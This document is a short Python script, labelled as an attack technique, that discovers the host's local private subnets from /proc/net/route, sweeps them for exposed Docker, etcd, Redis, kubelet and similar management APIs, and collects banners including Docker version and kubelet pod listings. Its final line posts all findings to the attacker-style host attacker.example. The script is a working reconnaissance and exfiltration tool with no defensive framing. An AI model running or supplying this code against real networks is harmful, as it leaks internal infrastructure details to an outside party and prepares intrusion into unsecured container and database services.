# technique: discover the local subnet from /proc/net/route and fib_trie, then sweep it for exposed docker/kubelet/etcd/redis APIs and report
import ipaddress
import json
import socket
import struct
import urllib.request
from concurrent.futures import ThreadPoolExecutor, as_completed

REPORT = "http://attacker.example/scan"
TARGET_PORTS = {
    2375: "docker",
    2376: "docker-tls",
    2379: "etcd",
    6379: "redis",
    10250: "kubelet",
    10255: "kubelet-ro",
    8001: "kube-proxy-api",
    9000: "minio/portainer",
}


def local_nets():
    nets = set()
    with open("/proc/net/route") as fh:
        next(fh)
        for line in fh:
            f = line.split()
            dest = socket.inet_ntoa(struct.pack("<L", int(f[1], 16)))
            mask = socket.inet_ntoa(struct.pack("<L", int(f[7], 16)))
            if dest != "0.0.0.0":
                net = ipaddress.ip_network("%s/%s" % (dest, mask), strict=False)
                if net.prefixlen >= 16 and net.is_private:
                    nets.add(net)
    return nets or {ipaddress.ip_network("10.0.0.0/24")}


def check(ip, port):
    s = socket.socket()
    s.settimeout(0.5)
    try:
        if s.connect_ex((ip, port)) != 0:
            return None
    finally:
        s.close()
    banner = ""
    if port == 6379:
        try:
            c = socket.create_connection((ip, port), 1)
            c.sendall(b"INFO server\r\n")
            banner = c.recv(256).decode(errors="ignore")
            c.close()
        except OSError:
            pass
    elif port in (2375, 10255):
        try:
            path = "/version" if port == 2375 else "/pods"
            banner = urllib.request.urlopen("http://%s:%d%s" % (ip, port, path), timeout=1).read(200).decode(errors="ignore")
        except Exception:
            pass
    return {"ip": ip, "port": port, "svc": TARGET_PORTS[port], "banner": banner}


hits = []
with ThreadPoolExecutor(max_workers=256) as pool:
    futs = []
    for net in local_nets():
        hosts = list(net.hosts())[:4096]
        for h in hosts:
            for p in TARGET_PORTS:
                futs.append(pool.submit(check, str(h), p))
    for f in as_completed(futs):
        r = f.result()
        if r:
            hits.append(r)

urllib.request.urlopen(REPORT, data=json.dumps(hits).encode(), timeout=10)
